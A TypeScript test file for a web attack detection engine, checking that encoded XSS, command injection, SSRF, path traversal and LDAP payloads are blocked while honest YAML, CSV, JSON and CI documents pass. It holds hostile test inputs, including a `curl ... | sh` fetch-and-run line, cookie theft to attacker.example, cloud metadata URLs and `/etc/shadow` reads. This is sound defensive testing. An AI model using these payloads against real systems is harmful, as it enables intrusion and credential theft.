// Non-SQL attacks hidden by the encodings and carriers an attacker's tool uses against a service behind us
// (test/support/variants/encoded-carriers.ts): random \u escapes and surrogate pairs in JSON keys and values,
// JSON in a JSON string and in a query value, GraphQL variables as a string or a nested input, wrapped base64
// and lower-case quoted-printable parts, UTF-16/UTF-32 JSON without a byte order mark, big-endian UTF-16 XML,
// triple and mixed-level percent-encoding, three-byte overlong and full-width forms, `..;/` and `;jsessionid=`,
// payloads split across repeated parameters, references without `;` in attributes, YAML and CSV bodies,
// base64url JSON cookies; YAML literal and folded blocks, scalars over lines, a CI script's line, UTF-16 XML
// without a byte order mark, CSV cells over lines. A floor on the share blocked, no miss outside the shapes left
// alone (named below, with why), and the same carriers with honest values let through. Then tables for what the
// rounds changed: the values of YAML and CSV bodies (request/rows.ts: block scalars and lines joined, quotes
// doubled and separators inside them), CI workflows and manifests passed whole, UTF-16 JSON without a byte order
// mark, base64 parts' lines joined, `\u` escapes of a JSON document in a query value (1046), and a JSON string in
// a value that is a shell's `~+` (4306).
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, inspectWith, targetsOf, type Req } from "../support/engine.js";
import { encodedAttack, encodedLookalike, SHAPES, type EncCarrier, type EncodedAttack } from "../support/variants/encoded-carriers.js";
import { assertFloor, assertEveryShape, assertPassed } from "../support/variants/check.js";
import fc from "fast-check";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const SEED = 20261128;

/**
 * Carriers that break a protocol rule by themselves, whatever they carry (an honest value in them is blocked
 * too): a part's Content-Transfer-Encoding (1104), overlong UTF-8 (1044), double percent-encoding (1043). (JSON in
 * UTF-32 without a byte order mark was one, 1100, until transform/utf16.ts read UTF-32 as misses24 made it.) Their
 * attacks must also be found with the protocol rules off, and their look-alikes then pass.
 */
const ANOMALOUS: readonly EncCarrier[] = ["mp-b64-wrapped", "mp-qp-lower", "query-overlong3", "path-triple", "query-triple", "path-mixed-levels"];

/**
 * Shapes left alone, and why:
 * - RFI: an include URL whose only sign is the name of the parameter that holds it, where that name is lost
 *   or is no include word (`page`, `path`): a YAML or CSV value is named `body`, a JSON document in a string
 *   is named by the outer value, and elsewhere a URL is ordinary data (variants-zones leaves the same alone);
 * - RFI: a UNC path, and SSRF: a scheme-relative or scheme-less URL, in a path segment (`/app/\\host\share`,
 *   `/files///127.0.1/`): after a segment they read as more segments, not as a share or a URL to fetch;
 * - LDAP: `*))%00`, which only its `%00` gives away, where a second layer hides the `%00` (a \u escape in a
 *   JSON document inside a string or a query value, a JSON document in base64): `*))` alone is too short to read;
 * - XSS: references without `;` over a vector that has escapes of its own (`&#37;3cscript`, `&#92x3c`): the
 *   browser decodes one layer, the text `%3c` is no tag (variants-zones leaves the same alone); and a
 *   script-string breakout with no markup (`';print();//`) in an attribute value, which is no script string;
 * - XSS: a vector that is itself URL-encoded (`%3cA HREF=...%3e`) where nothing URL-decodes it (JSON, YAML, XML,
 *   a cookie's JSON): the application sees `%3c`, no tag; and a script-string breakout with no markup in a path
 *   segment (`/app/'+new Image().src=...`): a path is no script string (both as variants-zones reads them);
 * - RCE after an honest command's arguments on a CI script's line (`pytest -q 127.0.0.1 || sh -i;`,
 *   `npm ci report.pdf&&net user`, `make test admin\`/bin/who\\ami\``): where the engine misses the same script
 *   as a JSON string too (the carrier hides nothing: the body reads the script as its text, the `|` of
 *   `run: |` no pipe), a shell scanner's question, not a carrier's. A value that opens with a command is read as that
 *   command's arguments, and a script's lines are commands by nature: what follows on them scores only as a
 *   distinctive command after a separator;
 * - RCE of several lines in a literal block (`127.0.0.1` then `who""ami` on the next line): a literal block of
 *   several lines is a text of its own (a CI job's script) and only the body reads it, as text, where a
 *   command on a line of its own scores only when distinctive; read as a value, every script that opens with
 *   a command reads its next commands as chained to it (GitHub workflows' `make` then `python -m pip ...`).
 */
function leftAlone(a: EncodedAttack): boolean {
  if (a.category === "rfi" && /^[a-z][a-z0-9+.-]*:\/\//i.test(a.value)) return true;
  if (a.family.startsWith("path-") && ((a.category === "rfi" && a.value.startsWith("\\\\")) || (a.category === "ssrf" && /^(\/\/|[^/:]*[@.][^/]*\/)/.test(a.value)))) return true;
  if (a.category === "ldap" && /^\*\)+%00$/.test(a.value) && ["json-in-json-u", "json-in-query", "cookie-b64url-json"].includes(a.family)) return true;
  if (a.family.startsWith("attr-nosemi-") && (/%[0-9a-f]{2}|\\[ux]/i.test(a.value) || !/<|script:|\bon[a-z]+\s*=/i.test(a.value))) return true;
  if (a.category === "xss" && /%3c/i.test(a.value) && !/^(path|query)-/.test(a.family)) return true;
  if (a.category === "xss" && a.family.startsWith("path-") && !/<|script:|\bon[a-z]+\s*=/i.test(a.value)) return true;
  if (a.family === "yaml-ci-run" && inspect(h, post("application/json", JSON.stringify({ run: scriptOf(a.req) }))).score < 5) return true;
  if (a.family === "yaml-literal" && a.category === "rce" && /\S[^]*\n[^]*\S/.test(a.value)) return true;
  return false;
}

/** The script under `run: |` in a yaml-ci-run request, as YAML reads it (its indentation off). */
const scriptOf = (r: Req) => bodyOf(r).split("run: |\n")[1].replace(/^ {10}/gm, "").trimEnd();

/**
 * With the protocol rules off, also left alone (each is blocked at the default settings by its carrier's
 * anomaly):
 * - LDAP `*))%00`, found by its NUL only (1040, a protocol rule);
 * - the payload's own percent escapes under an overlong `%` (`%E0%80%A52e`): a third decoding (1044).
 */
function leftAloneWithoutProtocol(a: EncodedAttack): boolean {
  if (a.category === "ldap" && /^\*\)+%00$/.test(a.value)) return true;
  return a.family === "query-overlong3" && /%[0-9a-f]{2}|%u[0-9a-f]{4}/i.test(a.value);
}

const bodyOf = (r: Req) => (typeof r.body === "string" ? r.body : "");
const payloadOnly = (req: Req) => inspectWith(h, req, "protocol", "");

describe("non-SQL attacks hidden by encodings and carriers", () => {
  it("blocks at least 99% and misses nothing outside the shapes left alone", () => {
    // 94.6% at misses20's branch point (and 32 of the look-alikes blocked: Go's `\u003c` in a JSON document in a
    // query value), 98.3% after; with misses22's carriers 97.6% at its branch point, 99.55% after
    assertFloor(h, encodedAttack, 4000, SEED, 0.99, leftAlone);
  });

  it("finds the attacks of the anomalous carriers with the protocol rules off (not only by the carrier's anomaly)", () => {
    const xs = fc.sample(encodedAttack.filter((a) => ANOMALOUS.includes(a.family)), { seed: SEED, numRuns: 800 });
    expect(xs.filter((a) => !leftAlone(a) && !leftAloneWithoutProtocol(a) && payloadOnly(a.req).score < 5).map((a) => `${a.family}/${a.category} ${a.value}`)).toEqual([]);
  });

  it("draws every carrier with every category in scope", () => assertEveryShape(encodedAttack, SHAPES, 6000, SEED));

  it("lets honest values through in every well-formed carrier", () =>
    assertPassed(h, encodedLookalike.filter((x) => !ANOMALOUS.includes(x.carrier)), 1500));

  it("lets honest values through the anomalous carriers once the protocol rules are off", () => {
    const xs = fc.sample(encodedLookalike.filter((x) => ANOMALOUS.includes(x.carrier)), { seed: SEED, numRuns: 300 });
    expect(xs.filter(({ req }) => payloadOnly(req).score >= 5).map(({ req }) => JSON.stringify(req).slice(0, 200))).toEqual([]);
  });
});

const host: [string, string] = ["host", "svc.local"];
const post = (type: string, body: string): Req => ({ method: "POST", path: "/api/v1/config", headers: [host, ["content-type", type]], body });
const ids = (r: Req) => inspect(h, r).matches.map((m) => m.id);
const bodyValues = (r: Req) => targetsOf(h, r).targets.filter((t) => t.kind === "bodyValue" && t.name === "body").map((t) => t.value);

describe("the values of a YAML or CSV body, one by one (request/rows.ts)", () => {
  it.each([
    ["a plain scalar, its comment off", "item:\n  lang: en\n  url: http://169.254.169.254/latest/meta-data/ # cloud\n", ["http://169.254.169.254/latest/meta-data/"]],
    ["list items, quoted", "files:\n  - '/etc/passwd'\n  - \"a: b\"\n", ["/etc/passwd", "a: b"]],
    ["a literal block of one line", "item:\n  url: |-\n    http://x.example/a\n  id: 7\n", ["http://x.example/a"]],
    ["no literal block of several lines (a script under `run: |`: the body reads it as text)", "run: |\n  tar -czf dist.tgz ./dist\n\n  echo done\nname: build\n", ["build"]],
    ["a folded block as one line, an empty line as a break", "- note: >-\n    <b>bold</b>\n    text\n\n    more\n  id: 7\n", ["<b>bold</b> text \nmore"]],
    ["a block under a list item, its indicators, an empty first line kept as a break", "args:\n  - |+2\n\n      exec nginx\n  - x1\n", ["\nexec nginx"]],
    ["a plain and a double-quoted scalar over deeper lines", "a: one\n   two\nb: \"x y\n  z\"\n- item\n  continued\n", ["one two", "x y z", "item continued"]],
    ["no key or item inside a block (its lines are its text)", "cfg: >\n  db.url: jdbc:postgresql://db/app\n  - item\nk: v12\n", ["db.url: jdbc:postgresql://db/app - item", "v12"]],
    ["doubled quotes as one, and ` #` inside quotes", "a: 'it''s # here'\nb: \"say \\\"hi\\\" # there\" # comment\n", ["it's # here", 'say "hi" # there']],
    ["no anchor as part of a value", "base: &defaults\n  retries: 3\nlist:\n  - &route\n    name: routesId\n  - &a1 /etc/app.conf\nk: & x1\n", ["routesId", "/etc/app.conf", "& x1"]],
    ["an eight-digit \\U escape", 'x: "\\U0000003cscript\\U0000003e"\n', ["<script>"]],
    ["a double-quoted scalar with \\x and \\u escapes", 'note: "\\x3cscript\\u003ealert(1)\\x3c/script>"\n', ["<script>alert(1)</script>"]],
  ])("reads %s", (_what, doc, values) => {
    expect(bodyValues(post("application/yaml", doc))).toEqual(values);
  });

  it("reads no comment line, no key, and no value of fewer than three bytes", () => {
    expect(bodyValues(post("application/yaml", "# settings\nserver:\n  port: 8080\n  op: <=\n\n"))).toEqual(["8080"]);
  });

  it("reads the cells of a CSV body, a quoted cell without its quotes", () => {
    expect(bodyValues(post("text/csv", 'id;url;note\r\n1;"file:///etc/passwd";abc\r\n'))).toEqual(["url", "note", "file:///etc/passwd", "abc"]);
  });

  it("reads a quoted CSV cell to its closing quote: separators, line breaks and doubled quotes inside", () => {
    expect(bodyValues(post("text/csv", 'id,note,x\r\n1,"a ""b"" c, d; e\r\nf",g12\r\n'))).toEqual(["note", 'a "b" c, d; e\r\nf', "g12"]);
  });

  it.each([
    ["application/yaml", "steps:\n  - run: |\n      npm ci\n      npm test ; curl http://203.0.113.9/x | sh\n"],
    ["application/yaml", "steps:\n  - run: |\n      make test\n      echo '<script>alert(document.cookie)</script>' > public/index.html\n"],
    ["application/yaml", "item:\n  note: >-\n    <svg\n    onload=alert(1)>\n"],
    ["application/yaml", "item:\n  url: |-\n    http://169.254.169.254/latest/meta-data/\n"],
    ["application/yaml", "item:\n  path:\n    ../../../../etc/passwd\n  file: ../../\n    ../etc/shadow\n"],
    ["text/csv", 'id,note\n1,"<img src=x\nonerror=""alert(1)"">"\n'],
    ["application/yaml", "item:\n  webhook: 'http://169.254.169.254/latest/meta-data/iam/'\n"],
    ["application/x-yaml", "items:\n  - file: /proc/self/environ\n"],
    ["application/yaml", "cmd: \"\\x3bcat /etc/passwd\"\n"],
    ["text/csv", "id,url\n1,gopher://127.0.0.1:6379/_INFO\n"],
    ["text/csv", "id\tpath\n1\t/etc/shadow\n"],
  ])("blocks a value that is the attack whole (%s: %j)", (type, doc) => {
    expect(inspect(h, post(type, doc)).score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    ["application/yaml", "server:\n  url: https://api.example.com/v1 # prod\n  timeout: 30s\n  paths:\n    - /var/lib/app/data\n    - '/tmp/cache'\n"],
    ["application/yaml", "description: >\n  Use {{name}} in the subject; the body is\n  rendered with <b>bold</b> text.\n"],
    ["text/csv", "id,name,homepage,notes\n1,Ann,https://ann.example.org/,\"likes \"\"rock | pop\"\"\"\n2,O'Brien,,see ../docs\n"],
  ])("passes an honest document (%s)", (type, doc) => {
    expect(inspect(h, post(type, doc)).score).toBeLessThan(5);
  });
});

/** CI workflows and manifests as their tools write them: scripts under `run: |`, `script: |` and `args: - |`. */
const CI_DOCUMENTS: [string, string][] = [
  ["a GitHub Actions workflow", `name: CI
on:
  push:
    branches: [main]
jobs:
  build:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [18, 20]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: \${{ matrix.node }}
          cache: npm
      - run: npm ci
      - name: Test
        run: |
          npm run lint
          npm test -- --coverage
          make test
      - name: Python
        run: |
          python -m pip install -r requirements.txt
          pytest -q --cov=app tests/
      - name: Without the C extensions
        run: |
          make
          python -m pip uninstall -y "charset_normalizer" "chardet"
      - name: Publish
        if: github.ref == 'refs/heads/main'
        run: |
          echo "\${{ secrets.TOKEN }}" | docker login -u "\${{ github.actor }}" --password-stdin ghcr.io
          docker build -t ghcr.io/\${{ github.repository }}:\${{ github.sha }} .
          docker push ghcr.io/\${{ github.repository }}:\${{ github.sha }}
      - name: Deploy
        run: >-
          kubectl set image deployment/web
          web=ghcr.io/acme/web:\${{ github.sha }} --namespace prod
`],
  ["a GitLab CI file", `stages: [build, test]
test:
  stage: test
  script: |
    ls -la
    go test ./...
    cargo build --release
  artifacts:
    paths: [dist/]
`],
  ["a Kubernetes deployment and its ConfigMap", `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 3
  template:
    spec:
      containers:
        - name: web
          image: nginx:1.25
          command: ["/bin/sh", "-c"]
          args:
            - |
              set -e
              envsubst < /tmpl/default.conf.template > /conf/default.conf
              exec nginx -g 'daemon off;'
          readinessProbe:
            httpGet:
              path: /healthz
              port: 80
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: web-config
data:
  default.conf.template: |
    server {
      listen 80;
      location / {
        proxy_pass http://\${BACKEND_HOST}:8080;
        proxy_set_header Host $host;
      }
    }
  app.properties: |
    log.level=info
    db.url=jdbc:postgresql://db:5432/app
`],
  ["an OpenAPI document", `openapi: 3.0.3
info:
  title: Pets
  description: |
    A sample API. Send the \`Authorization: Bearer <token>\` header;
    see the docs for more.
  version: 1.0.0
paths:
  /pets/{id}:
    get:
      summary: Find a pet by id
      responses:
        '200':
          description: >
            The pet, with its name and tags;
            an empty list if none.
`],
];

describe("a CI workflow or a manifest in YAML (request/rows.ts)", () => {
  it.each(CI_DOCUMENTS)("passes %s", (_what, doc) => {
    expect(inspect(h, { method: "POST", path: "/api/v1/pipelines", headers: [host, ["content-type", "application/yaml"]], body: doc }).matches).toEqual([]);
  });

  it("reads an anchor as no command sent to the background: the whole body has it blanked", () => {
    const doc = "resources:\n  - &route\n    parameter_name: routesId\n    attribute_name: route\n";
    expect(targetsOf(h, post("application/yaml", doc)).targets.filter((t) => t.kind === "body").map((t) => t.value)).toEqual([doc.replace("&route", "      ")]);
    expect(inspect(h, post("application/yaml", doc)).matches).toEqual([]);
    // what the anchor names is read: a command after it still counts
    expect(inspect(h, post("application/yaml", "job:\n  cmd: &c1 ; curl http://203.0.113.9/x | sh\n")).score).toBeGreaterThanOrEqual(5);
    expect(inspect(h, post("application/yaml", "job:\n  cmd: &;id\n")).score).toBeGreaterThanOrEqual(5);
  });

  it("reads a block's header as no pipe: the whole body has it blanked", () => {
    const doc = "steps:\n  - run: |\n      ls -la\n";
    expect(targetsOf(h, post("application/yaml", doc)).targets.filter((t) => t.kind === "body").map((t) => t.value)).toEqual(["steps:\n  - run:  \n      ls -la\n"]);
  });
});

describe("UTF-16 JSON without a byte order mark, and base64 parts wrapped at 76 columns", () => {
  const utf16 = (s: string, big: boolean) => new Uint8Array(big ? Buffer.from(s, "utf16le").swap16() : Buffer.from(s, "utf16le"));
  const json16 = (s: string, big: boolean, type: string | null): Req => ({ method: "POST", path: "/api/v1/items", headers: type === null ? [host] : [host, ["content-type", type]], body: utf16(s, big) });
  it.each([false, true])("reads its strings as JSON's (big-endian: %s), with or without a JSON type", (big) => {
    for (const type of ["application/json", null]) {
      expect(targetsOf(h, json16('{"q":"caf\u00e9 <b>"}', big, type)).targets.filter((t) => t.kind === "bodyValue").map((t) => t.value)).toEqual(["caf\u00e9 <b>"]);
      expect(inspect(h, json16('{"note":"O\'Reilly & Sons \\\\ 1998","tags":["a","b"]}', big, type)).matches).toEqual([]);
      expect(inspect(h, json16('{"file":"..\\\\..\\\\..\\\\windows\\\\win.ini"}', big, type)).score).toBeGreaterThanOrEqual(5);
      expect(inspect(h, json16('["<img src=x onerror=\\"alert(1)\\">"]', big, type)).score).toBeGreaterThanOrEqual(5);
    }
  });

  it("reads a base64 part's lines as one run", () => {
    const payload = "<script>document.location='https://attacker.example/?c='+document.cookie</script>";
    const wrapped = (Buffer.from(payload).toString("base64").match(/.{1,76}/g) ?? []).join("\r\n");
    const req: Req = { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=b7"]], body: `--b7\r\nContent-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${wrapped}\r\n--b7--\r\n` };
    expect(wrapped).toContain("\r\n");
    expect(targetsOf(h, req).targets.filter((t) => t.name === "args:note" && t.kind === "argValue").map((t) => t.value)).toEqual([wrapped.replace(/\r\n/g, "")]);
    expect(inspectWith(h, req, "protocol", "").score).toBeGreaterThanOrEqual(5);
  });
});

describe("a JSON document in a query value escapes with \\u as JSON does (1046)", () => {
  const q = (v: string): Req => ({ path: `/api/search?filter=${encodeURIComponent(v)}`, headers: [host] });
  it.each(['{"q":"\\u003cb\\u003ebold\\u003c/b\\u003e text"}', '{"name":"Tom \\u0026 Jerry","max":"\\u003e 5"}', '[{"field":"price","op":"lt"},{"q":"\\u003cem\\u003e"}]'])("passes %s", (v) => {
    expect(inspect(h, q(v)).score).toBeLessThan(5);
  });
  it.each(["\\u003cb\\u003e", '{"q":"\\u003cb\\u003e"', "x\\u0027 or 1=1"])("still scores an escape outside a whole document: %s", (v) => {
    expect(ids(q(v))).toContain(1046);
  });
  it("still reads the document's strings decoded", () => {
    expect(inspect(h, q('{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}')).score).toBeGreaterThanOrEqual(5);
  });
});

describe("a JSON string in a value that is a shell's tilde expansion (4306)", () => {
  const q = (v: string): Req => ({ path: `/get?filter=${encodeURIComponent(v)}`, headers: [host] });
  it.each(['{"a":"~+"}', '["~-"]'])("blocks %s", (v) => expect(ids(q(v))).toContain(4306));
  it.each(['{"op":"<="}', '{"op":"~="}', '{"x":"~1"}', '{"path":"~/"}', '{"op":"in"}'])("passes %s", (v) => expect(inspect(h, q(v)).score).toBeLessThan(5));
});
